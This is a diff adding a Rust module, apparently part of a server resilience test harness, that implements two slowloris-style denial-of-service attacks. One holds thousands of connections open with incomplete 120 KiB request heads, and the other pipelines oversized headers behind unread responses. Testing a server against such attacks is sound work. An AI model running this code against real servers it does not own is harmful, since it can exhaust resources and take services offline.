@@ -1,0 +1,76 @@
+//! Heads that fill the buffers of connections.
+
+use std::time::Duration;
+
+use tokio::time::sleep;
+
+use crate::{
+    attack::{Attack, MAX_LATENCY, Target},
+    raw::{self, Raw},
+};
+
+/// Number of connections with an incomplete head.
+const INCOMPLETE: usize = 4000;
+/// Number of connections with requests behind a pending one.
+const PIPELINED: usize = 500;
+/// Length of a head that actix would buffer.
+const LENGTH: usize = 120 << 10;
+/// Maximum time until the connections are closed: the default of `--header-timeout` and some delay.
+const CLOSED_WITHIN: Duration = Duration::from_secs(15);
+/// Time for which the requests stay pending.
+const PENDING: Duration = Duration::from_secs(5);
+
+pub(super) fn attacks() -> Vec<Attack> {
+    vec![
+        Attack {
+            name: "incomplete-heads",
+            about: "incomplete heads of 120 KiB, over 4000 connections",
+            flags: &[],
+            max_latency: MAX_LATENCY,
+            run: |target| Box::pin(incomplete(target)),
+        },
+        Attack {
+            name: "pipelined-heads",
+            about: "16 heads of 120 KiB behind a response that is not read, over 500 connections",
+            flags: &[],
+            max_latency: MAX_LATENCY,
+            run: |target| Box::pin(pipelined(target)),
+        },
+    ]
+}
+
+async fn incomplete(target: Target) -> anyhow::Result<()> {
+    let head = format!("GET / HTTP/1.1\r\nHost: a\r\nX: {}", "a".repeat(LENGTH));
+    let clients = (0..INCOMPLETE).map(|_| {
+        let head = head.clone();
+        async move {
+            let mut connection = Raw::open(target.http, b"").await?;
+            // The server does not read all of the head, so `send` ends when the connection closes.
+            let closed = async move {
+                connection.send(head.as_bytes()).await;
+                connection.closed(CLOSED_WITHIN).await
+            };
+            closed.await
+        }
+    });
+    raw::all(clients).await.map(drop)
+}
+
+async fn pipelined(target: Target) -> anyhow::Result<()> {
+    let first = "GET /docs/swagger-ui-bundle.js HTTP/1.1\r\nHost: a\r\n\r\n";
+    let padding = "a".repeat(LENGTH);
+    let later = format!("GET /health/live HTTP/1.1\r\nHost: a\r\nX: {padding}\r\n\r\n");
+    let requests = first.repeat(8) + &later.repeat(16);
+    let clients = (0..PIPELINED).map(|_| {
+        let requests = requests.clone();
+        async move {
+            let mut connection = Raw::open(target.http, b"").await?;
+            tokio::select! {
+                () = connection.send(requests.as_bytes()) => sleep(PENDING).await,
+                () = sleep(PENDING) => {}
+            }
+            Ok(())
+        }
+    });
+    raw::all(clients).await.map(drop)
+}
